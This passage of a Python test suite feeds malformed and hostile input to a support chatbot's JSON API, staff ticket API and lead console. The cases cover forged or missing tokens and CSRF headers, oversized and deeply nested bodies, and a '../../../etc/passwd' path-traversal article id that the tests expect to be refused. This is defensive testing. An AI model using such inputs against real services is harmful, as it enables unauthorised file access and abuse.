        ApiCase("sender naming a widget conversation", {"sender": widget_conversation, "message": "hello"}, "answer",
                widget_conversation, "hello"),
        ApiCase("unknown fields naming another conversation",
                {"sender": s("extra"), "message": "hello", "conversation_id": widget_conversation, "admin": True,
                 "session_id": widget_conversation}, "answer", s("extra"), "hello"),
        ApiCase("metadata as a string", {"sender": s("md-str"), "message": "hello", "metadata": "user_token=x"},
                "answer", s("md-str"), "hello"),
        ApiCase("metadata as a list", {"sender": s("md-list"), "message": "hello", "metadata": [1, 2]}, "answer", s("md-list"), "hello"),
        ApiCase("metadata as a number", {"sender": s("md-num"), "message": "hello", "metadata": 7}, "answer", s("md-num"), "hello"),
        ApiCase("metadata null", {"sender": s("md-null"), "message": "hello", "metadata": None}, "answer", s("md-null"), "hello"),
        ApiCase("huge metadata (60 kB)", {"sender": s("md-huge"), "message": "hello", "metadata": HUGE_METADATA},
                "answer", s("md-huge"), "hello"),
        ApiCase("metadata nested 200 levels deep", {"sender": s("md-200"), "message": "hello", "metadata": NESTED_200},
                "answer", s("md-200"), "hello"),
        ApiCase("JSON nested 20,000 levels deep", nested, 400, s("nested")),
        ApiCase("missing API token", {"sender": s("noauth"), "message": "hi"}, 401, s("noauth"), headers={"Authorization": None}),
        ApiCase("wrong API token", {"sender": s("badauth"), "message": "hi"}, 401, s("badauth"),
                headers={"Authorization": "Bearer guessed"}),
        ApiCase("API token in another scheme", {"sender": s("basic"), "message": "hi"}, 401, s("basic"),
                headers={"Authorization": f"Basic {settings.resolved_api_token()}"}),
        ApiCase("a 64 kB body (the largest the gateway takes)", sized_body(s("64k"), BODY_LIMIT - 1), "answer", s("64k"),
                "a" * (BODY_LIMIT - 1 - len(json.dumps({"sender": s("64k"), "message": ""})))),
        ApiCase("a body just over the 64 kB limit", sized_body(s("over"), BODY_LIMIT + 1), 413, s("over")),
    ]
    return cases


API_ONLY_KINDS = {c.kind for c in api_cases(Settings(identity_secret="x" * 32, api_token="t"), "0" * 32)} - {t.kind for t in TEXTS}
KIND_NAMES.update(API_ONLY_KINDS)


def test_bad_input_through_the_json_api(gateway_settings: Settings, bot_store: Store, gateway_errors: GatewayErrors) -> None:
    settings = relaxed_limits(gateway_settings)
    report = Report(API, gateway_errors)
    auth = {"Authorization": f"Bearer {settings.resolved_api_token()}", "Content-Type": "application/json"}
    # A widget visitor's conversation, with what they said: no API sender may reach it.
    widget_conversation = "%032x" % time.time_ns()
    record_message(bot_store, widget_conversation, "visitor", "my own chat", datetime.now(timezone.utc))

    async def post(client: TestClient, body: Any, headers: Optional[Dict[str, Optional[str]]] = None) -> Any:
        data = json.dumps(body) if isinstance(body, (dict, list)) else body
        sent = {name: value for name, value in {**auth, **(headers or {})}.items() if value is not None}
        return await client.post("/api/messages", data=data, headers=sent)

    async def body() -> None:
        client = await start(settings)
        try:
            control = issue_token(settings.resolved_identity_secret(), "premium@demo.example")
            said = await (await post(client, {"sender": f"control-{time.time_ns()}", "message": PLAN_QUESTION,
                                              "metadata": {"user_token": control}})).json()
            assert "subscription" in kinds_of(said["messages"]), "a valid token must show the plan (else the checks mean nothing)"
            for case in api_cases(settings, widget_conversation):
                report.case(case.kind, case.body)
                conversation = case.conversation or f"api:{case.sender}"
                before = totals(bot_store)
                try:
                    response = await post(client, case.body, case.headers)
                    if case.expect == "answer":
                        text = await response.text()
                        if response.status != 200:
                            report.fail(f"HTTP {response.status} {text[:160]!r}, expected an answer")
                        else:
                            report.outcome("answered")
                            answer = json.loads(text)
                            if answer.get("conversation_id") != conversation:
                                report.fail(f"conversation {answer.get('conversation_id')!r}, expected {conversation!r}")
                            check_answered_text(report, bot_store, conversation, answer["messages"], str(case.stored),
                                                **_text_checks(case.kind))
                            if case.token:
                                check_anonymous(report, answer["messages"], case.kind)
                    else:
                        assert not isinstance(case.expect, str)
                        if await json_error(report, response, case.expect):
                            same_totals(report, before, totals(bot_store))
                    if case.kind == "sender naming a widget conversation" or case.kind.startswith("unknown fields"):
                        if [m.text for m in conversation_messages(bot_store, widget_conversation)] != ["my own chat"]:
                            report.fail("an API sender wrote into a widget visitor's conversation")
                    # The conversation keeps working.
                    sender = conversation.split(":", 1)[1]
                    follow = await post(client, {"sender": sender, "message": QUESTION})
                    if follow.status != 200:
                        report.fail(f"the next question got HTTP {follow.status} {(await follow.text())[:120]!r}")
                    else:
                        check_follow_up(report, bot_store, conversation, (await follow.json())["messages"])
                except Exception as error:  # noqa: BLE001
                    report.fail(f"the test client failed: {error!r}")
                report.logged()
            assert (await client.get("/health")).status == 200
        finally:
            await client.close()

    asyncio.run(body())
    report.verdict()


# --------------------------------------------------------------------------------------------
# Door 3: the agent inbox's staff API
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class StaffCase:
    kind: str
    requests: Tuple[Tuple[str, str], ...]  # (method, path) with {ticket}
    body: Union[bytes, str, Dict[str, Any], List[Any], None] = None
    expect: Union[Expected, str] = 400  # a 4xx, or "text": a text kind (sent if usable, else refused with 400)
    csrf: str = "session"  # "session", "none", "wrong", "body"


REPLY = (("POST", "/agent/api/tickets/{ticket}/reply"),)
EVERY_ENDPOINT = (
    ("GET", "/agent/api/tickets/{id}"), ("POST", "/agent/api/tickets/{id}/claim"), ("POST", "/agent/api/tickets/{id}/reply"),
    ("POST", "/agent/api/tickets/{id}/resolve"), ("POST", "/agent/api/tickets/{id}/handback"),
)


def on_ticket(ticket_id: str) -> Tuple[Tuple[str, str], ...]:
    return tuple((method, path.replace("{id}", ticket_id)) for method, path in EVERY_ENDPOINT)


def staff_cases() -> List[StaffCase]:
    cases = [StaffCase(t.kind, REPLY, {"text": t.text}, "text") for t in TEXTS]
    cases += [
        StaffCase("non-numeric ticket id", on_ticket("abc"), {"text": "hi"}, 404),
        StaffCase("negative ticket id", on_ticket("-1"), {"text": "hi"}, 404),
        StaffCase("ticket id zero", on_ticket("0"), {"text": "hi"}, 404),
        StaffCase("decimal ticket id", on_ticket("1.5"), {"text": "hi"}, 404),
        StaffCase("ticket id past 64 bits", on_ticket("9" * 30), {"text": "hi"}, 404),
        StaffCase("ticket that does not exist", on_ticket("999999"), {"text": "hi"}, 404),
        StaffCase("reply body that is not JSON", REPLY, "thanks, I'll look into it", 400),
        StaffCase("reply body that is a JSON list", REPLY, ["hi"], 400),
        StaffCase("reply body that is a JSON string", REPLY, '"hi"', 400),
        StaffCase("reply without text", REPLY, {"message": "hi"}, 400),
        StaffCase("reply text as a number", REPLY, {"text": 5}, 400),
        StaffCase("reply text as a list", REPLY, {"text": ["hi", "there"]}, 400),
        StaffCase("reply text as an object", REPLY, {"text": {"html": "<b>hi</b>"}}, 400),
        StaffCase("reply text true", REPLY, {"text": True}, 400),
        StaffCase("reply text null", REPLY, {"text": None}, 400),
        StaffCase("reply of 4,001 characters", REPLY, {"text": "x" * 4001}, 400),
        StaffCase("reply body nested 20,000 levels deep", REPLY, '{"text": "hi", "x": ' + "[" * 20000 + "]" * 20000 + "}", 400),
        StaffCase("reply body of 64 kB", REPLY, sized_body("", BODY_LIMIT - 1, field="text"), 400),
        StaffCase("reply body just over the 64 kB limit", REPLY, sized_body("", BODY_LIMIT + 1, field="text"), 413),
        StaffCase("missing CSRF header", REPLY, {"text": "hi"}, 403, csrf="none"),
        StaffCase("wrong CSRF header", REPLY, {"text": "hi"}, 403, csrf="wrong"),
        StaffCase("CSRF token in the body instead of the header", REPLY, {"text": "hi", "csrf_token": "<session>"}, 403, csrf="body"),
    ]
    return cases


RESOLVED_CASES = [
    StaffCase("reply to a resolved ticket", REPLY, {"text": "one more thing"}, 409),
    StaffCase("claim a resolved ticket", (("POST", "/agent/api/tickets/{ticket}/claim"),), None, 409),
    StaffCase("resolve a resolved ticket", (("POST", "/agent/api/tickets/{ticket}/resolve"),), None, 409),
    StaffCase("hand back a resolved ticket", (("POST", "/agent/api/tickets/{ticket}/handback"),), None, 409),
]
KIND_NAMES.update(c.kind for c in staff_cases() + RESOLVED_CASES)


async def drain(widget: Widget, quiet: float = 0.2, first_within: Optional[float] = None) -> List[Dict[str, Any]]:
    """What reached the visitor's widget: until ``quiet`` seconds of nothing (the first awaited ``first_within`` s)."""
    said: List[Dict[str, Any]] = []
    while True:
        got = await next_event(widget, first_within if first_within is not None and not said else quiet)
        if got is None:
            return said
        said.append(got[1] if isinstance(got[1], dict) else {"text": repr(got[1])})


def test_bad_input_through_the_staff_api(gateway_settings: Settings, bot_store: Store, gateway_errors: GatewayErrors) -> None:
    settings = relaxed_limits(gateway_settings)
    report = Report(STAFF, gateway_errors)

    async def body() -> None:
        client = await start(settings)
        widget = Widget(str(client.make_url("/")))
        try:
            session = await widget.open()
            await widget.say("i want to talk to a human")
            handoff = next(r for r in await turn_replies(widget, bot_store, session, 10.0) if kinds_of([r]) == ["handoff"])
            ticket = handoff["metadata"]["deskmate"]["ticket"]
            csrf = await sign_in(client)
            assert (await client.post(f"/agent/api/tickets/{ticket}/claim", headers={"X-CSRF-Token": csrf})).status == 200
            await drain(widget)

            async def send(case: StaffCase, method: str, path: str) -> Any:
                headers = {"X-CSRF-Token": {"session": csrf, "wrong": "not-the-token"}.get(case.csrf, "")}
                if case.csrf in ("none", "body"):
                    headers = {}
                data = case.body
                if isinstance(data, dict) and data.get("csrf_token") == "<session>":
                    data = {**data, "csrf_token": csrf}
                if isinstance(data, (dict, list)):
                    data = json.dumps(data)
                if data is not None:
                    headers["Content-Type"] = "application/json"
                return await client.request(method, path.replace("{ticket}", str(ticket)), data=data, headers=headers)

            async def run(case: StaffCase) -> None:
                report.case(case.kind, case.body)
                try:
                    for method, path in case.requests:
                        before = totals(bot_store)
                        response = await send(case, method, path)
                        text = case.body.get("text") if isinstance(case.body, dict) else None
                        acceptable = isinstance(text, str) and text.strip() and not unclean(text) and len(text.strip()) <= 4000
                        if case.expect == "text" and (response.status == 200 or acceptable):
                            await accepted_reply(case, response, str(text))
                        elif case.expect == "text":  # an unusable text (empty, controls, surrogates) may be refused
                            if await json_error(report, response, 400):
                                same_totals(report, before, totals(bot_store))
                                if await drain(widget):
                                    report.fail("a refused reply reached the visitor")
                            else:
                                await accepted_reply(case, response, str(text))
                        else:
                            assert not isinstance(case.expect, str)
                            refused = await json_error(report, response, case.expect)
                            if refused:
                                same_totals(report, before, totals(bot_store))
                            delivered = await drain(widget)
                            if delivered and refused:
                                report.fail(f"a refused request reached the visitor: {short([d.get('text') for d in delivered])}")
                except Exception as error:  # noqa: BLE001
                    report.fail(f"the test client failed: {error!r}")
                report.logged()

            async def accepted_reply(case: StaffCase, response: Any, text: str) -> None:
                report.outcome("sent" if response.status == 200 else f"HTTP {response.status}")
                if response.status != 200:
                    report.fail(f"HTTP {response.status} {(await response.text())[:160]!r}, expected the reply to be sent")
                    await drain(widget)
                    return
                stored = conversation_messages(bot_store, session)[-1]
                delivered = await drain(widget, first_within=5.0)
                if stored.sender != "agent":
                    report.fail(f"the reply was not stored (last message: {stored.sender} {short(stored.text)})")
                    return
                if [d.get("text") for d in delivered] != [stored.text]:
                    report.fail(f"the visitor received {short([d.get('text') for d in delivered])}, stored {short(stored.text)}")
                if unclean(stored.text):
                    report.fail(f"the reply was stored with {', '.join(unclean(stored.text))} (not cleaned)")
                elif not unclean(text) and stored.text not in (text.strip(), _text(case.kind).cleaned.strip()):
                    report.fail(f"the reply was stored as {short(stored.text)}, not as written (or cleaned)")

            async def keeps_working() -> None:
                response = await client.post(f"/agent/api/tickets/{ticket}/reply", json={"text": "Still with you."},
                                             headers={"X-CSRF-Token": csrf})
                delivered = await drain(widget, first_within=5.0)
                if response.status != 200 or [d.get("text") for d in delivered] != ["Still with you."]:
                    report.fail(f"the next normal reply got HTTP {response.status}, the visitor received {short(delivered)}")

            for case in staff_cases():
                await run(case)
                await keeps_working()
                report.logged()

            resolved = await client.post(f"/agent/api/tickets/{ticket}/resolve", headers={"X-CSRF-Token": csrf})
            assert resolved.status == 200, await resolved.text()
            assert [kinds_of([d]) for d in await drain(widget, 1.0, first_within=5.0)] == [["resolved"], ["rating_request"]]
            for case in RESOLVED_CASES:
                await run(case)
            report.case("reply to a resolved ticket", "(the visitor asks the bot again)")
            check_follow_up(report, bot_store, session, await ask_question(widget))
            report.logged()
        finally:
            await widget.close()
            await client.close()

    asyncio.run(body())
    report.verdict()


# --------------------------------------------------------------------------------------------
# Door 4: the lead console's edit forms
# --------------------------------------------------------------------------------------------

LEAD_EMAIL = "lena.bad-input@support.example"
LEAD_PASSWORD = "correct horse battery"
MISSED = "can I buy a gift card for my brother"
PHRASING_TARGET = "gift-cards-promo"


@dataclass(frozen=True)
class LeadCase:
    kind: str
    body: Union[bytes, str, Dict[str, Any], List[Any], None]
    expect: Union[Expected, str]  # a 4xx; or "phrasing" (refused with a 400 or 409, or added exactly as written)
    message: str = "visitor"  # the id in the URL: "visitor" (the planted miss), "bot", or a literal
    csrf: str = "session"
    decided_first: bool = False


def lead_cases() -> List[LeadCase]:
    cases = [LeadCase(t.kind, {"action": "article", "target": PHRASING_TARGET, "text": t.text}, "phrasing") for t in TEXTS]
    cases += [
        LeadCase("unknown action", {"action": "delete everything", "text": MISSED}, 400),
        LeadCase("action missing", {"text": MISSED}, 400),
        LeadCase("action as a list", {"action": ["dismiss"], "text": MISSED}, 400),
        LeadCase("no article chosen", {"action": "article", "text": MISSED}, 400),
        LeadCase("no intent chosen", {"action": "intent", "target": "", "text": MISSED}, 400),
        LeadCase("unknown article", {"action": "article", "target": "no-such-article", "text": MISSED}, 400),
        LeadCase("unknown intent", {"action": "intent", "target": "no_such_intent", "text": MISSED}, 400),
        LeadCase("article id that is a path", {"action": "article", "target": "../../../etc/passwd", "text": MISSED}, 400),
        LeadCase("target given as an object", {"action": "article", "target": {"id": PHRASING_TARGET}, "text": MISSED}, 400),
        LeadCase("a target for a dismissal", {"action": "dismiss", "target": "greet", "text": MISSED}, 400),
        LeadCase("entity syntax as an intent example", {"action": "intent", "target": "greet", "text": "a [gift card](product) please"}, 400),
        LeadCase("entity syntax with braces as an intent example",
                 {"action": "intent", "target": "greet", "text": 'a [gift card]{"entity": "product"} please'}, 400),
        LeadCase("phrasing already in an intent", {"action": "intent", "target": "greet", "text": "hello"}, 409),
        LeadCase("text as a list", {"action": "new_article", "text": ["gift", "card"]}, 400),
        LeadCase("text as a number", {"action": "new_article", "text": 42}, 400),
        LeadCase("text null", {"action": "new_article", "text": None}, 400),
        LeadCase("huge text marked as needing a new article", {"action": "new_article", "text": "gift card " * 500}, 400),
        LeadCase("NUL in a text marked as needing a new article", {"action": "new_article", "text": "gift\x00 card"}, "phrasing"),
        LeadCase("non-numeric message id", {"action": "dismiss", "text": MISSED}, (400, 404), message="abc"),
        LeadCase("negative message id", {"action": "dismiss", "text": MISSED}, 404, message="-1"),
        LeadCase("message id past 64 bits", {"action": "dismiss", "text": MISSED}, 404, message="9" * 30),
        LeadCase("message id that does not exist", {"action": "dismiss", "text": MISSED}, 404, message="99999999"),
        LeadCase("message id of a bot's message", {"action": "dismiss", "text": MISSED}, 404, message="bot"),
        LeadCase("message already decided", {"action": "dismiss", "text": MISSED}, 409, decided_first=True),
        LeadCase("edit body that is not JSON", "action=dismiss&text=x", 400),
        LeadCase("edit body that is a JSON list", ["dismiss", MISSED], 400),
        LeadCase("edit body that is JSON null", "null", 400),
        LeadCase("edit body nested 20,000 levels deep", '{"action": "dismiss", "x": ' + "[" * 20000 + "]" * 20000 + "}", 400),
        LeadCase("edit body of 64 kB", sized_body("", BODY_LIMIT - 1, field="text", action="article", target=PHRASING_TARGET), 400),
        LeadCase("edit body just over the 64 kB limit",
                 sized_body("", BODY_LIMIT + 1, field="text", action="article", target=PHRASING_TARGET), 413),
        LeadCase("edit without the CSRF header", {"action": "dismiss", "text": MISSED}, 403, csrf="none"),
        LeadCase("edit with a wrong CSRF header", {"action": "dismiss", "text": MISSED}, 403, csrf="wrong"),
    ]
    return cases


KIND_NAMES.update(c.kind for c in lead_cases())


@pytest.fixture
def lead_door_settings(store: Store, tmp_path: Path) -> Settings:
    """A gateway over an empty store with a lead, its own copies of kb/ and data/nlu/ (no bot needed)."""
    add_staff(store, LEAD_EMAIL, "Lena", "lead", LEAD_PASSWORD, datetime.now(timezone.utc))
    shutil.copytree(PROJECT_ROOT / "kb", tmp_path / "kb")
    shutil.copytree(PROJECT_ROOT / "data" / "nlu", tmp_path / "nlu")
    return Settings(database_url=store.url, rasa_url="http://127.0.0.1:9", kb_dir=tmp_path / "kb",
                    nlu_dir=tmp_path / "nlu", project_root=tmp_path)


def files_of(settings: Settings) -> Dict[Path, str]:
    return {path: path.read_text(encoding="utf-8")
            for root in (settings.kb_dir, settings.nlu_dir) for path in sorted(Path(root).rglob("*")) if path.is_file()}


def test_bad_input_through_the_lead_console(
    lead_door_settings: Settings, store: Store, gateway_errors: GatewayErrors
) -> None:
    settings = lead_door_settings
    report = Report(LEAD, gateway_errors)
    at = datetime.now(timezone.utc) - timedelta(days=1)

    def plant(number: int) -> Tuple[int, int]:
        conversation = f"web:bad-input-{number}"
        visitor = record_message(store, conversation, "visitor", MISSED, at, {"metadata": {}})
        bot = record_message(store, conversation, "bot", "Not sure what you mean.", at,
                             {"metadata": {"deskmate": {"type": "rephrase", "article_ids": []}}})
        return visitor.id, bot.id

    async def body() -> None:
        client = await start(settings)
        try:
            page = await client.get("/agent/login")
            token = (await page.text()).split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
            signed_in = await client.post("/agent/login", allow_redirects=False,
                                          data={"email": LEAD_EMAIL, "password": LEAD_PASSWORD, "csrf_token": token})
            assert signed_in.status == 302, await signed_in.text()
            console = await (await client.get("/lead")).text()
            csrf = console.split('name="csrf-token" content="', 1)[1].split('"', 1)[0]

            for number, case in enumerate(lead_cases()):
                report.case(case.kind, case.body)
                visitor_id, bot_id = plant(number)
                try:
                    if case.decided_first:
                        first = await client.post(f"/lead/api/misses/{visitor_id}", json={"action": "dismiss", "text": MISSED},
                                                  headers={"X-CSRF-Token": csrf})
                        assert first.status == 200, await first.text()
                    target = {"visitor": str(visitor_id), "bot": str(bot_id)}.get(case.message, case.message)
                    headers = {"Content-Type": "application/json"}
                    if case.csrf != "none":
                        headers["X-CSRF-Token"] = csrf if case.csrf == "session" else "not-the-token"
                    data = json.dumps(case.body) if isinstance(case.body, (dict, list)) else case.body
                    files, before = files_of(settings), totals(store)
                    response = await client.post(f"/lead/api/misses/{target}", data=data, headers=headers)
                    if case.expect == "phrasing" and response.status == 200:
                        report.outcome("added as written")
                        check_added_phrasing(report, settings, files, case, decision_for(store, visitor_id) is not None)
                    else:
                        expected = (400, 409) if isinstance(case.expect, str) else case.expect  # a phrasing: refused with a reason
                        refused = await json_error(report, response, expected)
                        if refused and files_of(settings) != files:
                            report.fail("a refused edit changed kb/ or data/nlu/")
                        if refused:
                            same_totals(report, before, totals(store), "a refused edit")
                        # Nothing lost: the message is still undecided, and a normal decision works.
                        if refused and not case.decided_first:
                            if decision_for(store, visitor_id) is not None:
                                report.fail("a refused edit decided the message")
                            again = await client.post(f"/lead/api/misses/{visitor_id}", json={"action": "dismiss", "text": MISSED},
                                                      headers={"X-CSRF-Token": csrf})
                            if again.status != 200:
                                report.fail(f"the message could not be decided afterwards: HTTP {again.status}")
                    listing = await client.get("/lead/api/misses")
                    if listing.status != 200:
                        report.fail(f"the console's inbox answers HTTP {listing.status} afterwards")
                except Exception as error:  # noqa: BLE001
                    report.fail(f"the test client failed: {error!r}")
                report.logged()
        finally:
            await client.close()

    asyncio.run(body())
    report.verdict()


def check_added_phrasing(report: Report, settings: Settings, before: Dict[Path, str], case: LeadCase, decided: bool) -> None:
    """An accepted edit: the message decided; for an article, exactly one line added, reading back as written."""
    assert isinstance(case.body, dict)
    text = str(case.body.get("text"))
    expected = " ".join(text.split())
    if not decided:
        report.fail("accepted (HTTP 200) but no decision was recorded")
    if not expected or unclean(expected) or len(expected) > 1000:
        report.fail(f"an unusable text was accepted ({len(expected)} characters, {', '.join(unclean(expected)) or 'no controls'})")
    after = files_of(settings)
    changed = [path for path in after if after[path] != before.get(path)]
    if case.body.get("action") != "article":
        if changed:
            report.fail(f"a decision without an edit changed {changed}")
        return
    if len(changed) != 1:
        report.fail(f"expected one file edited, got {[str(p) for p in changed]}")
        return
    [path] = changed
    if len(after[path].splitlines()) != len(before[path].splitlines()) + 1:
        report.fail(f"{path.name}: not exactly one added line")
    questions = parse_article(path).questions
    if not questions or questions[-1] != expected:
        report.fail(f"{path.name}: the phrasing reads back as {short(questions[-1] if questions else None)}, not {short(expected)}")


# --------------------------------------------------------------------------------------------
# The count
# --------------------------------------------------------------------------------------------


def test_the_number_of_kinds_tried() -> None:
    tried = set().union(*TRIED.values())
    doors = [door for door in DOORS if TRIED[door]]
    if not tried:
        pytest.skip("run with the door tests above: this counts what they tried")
    n = len(tried)
    print(f"\nbad input: {n} kinds tried through {len(doors)} doors "
          f"({', '.join(f'{door}: {len(TRIED[door])}' for door in DOORS)}; {len(KIND_NAMES)} kinds in the tables)")
    assert n >= 60
    assert len(KIND_NAMES) >= 60
